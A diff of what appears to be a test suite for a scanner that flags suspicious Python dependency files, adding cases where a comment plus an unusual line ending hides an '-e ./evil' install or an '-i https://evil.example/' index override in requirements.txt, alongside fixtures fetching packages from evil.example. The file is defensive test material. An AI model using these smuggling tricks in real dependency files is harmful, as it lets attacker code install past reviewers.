@@ -211,6 +211,11 @@ const packages: readonly ModelCase[] = [
     '[options]\ninstall_requires =\n    numpy\n    tools @ https://evil.example/tools.zip\n',
     'setup.cfg',
   ),
+  // pip ends a line where Python's splitlines does, and joins no comment.
+  ...['# x \\\n-e ./evil', '# x \\\n-i https://evil.example/', ...['\r', '\f', '\u0085', '\u2028'].map((end) => `# x${end}-e ./evil`)].map(
+    (line) =>
+      suspicious(`a list of packages behind a comment, ${encodeURIComponent(line)}`, `numpy==1.26.4\n${line}\n`, 'requirements.txt'),
+  ),
   notCleared('a list of packages in a line of a megabyte', 'a'.repeat(1_000_000), 'requirements.txt'),
   suspicious('a list of packages of another name', 'git+https://evil.example/tools\n', 'code/requirements-gpu.txt'),
   suspicious(
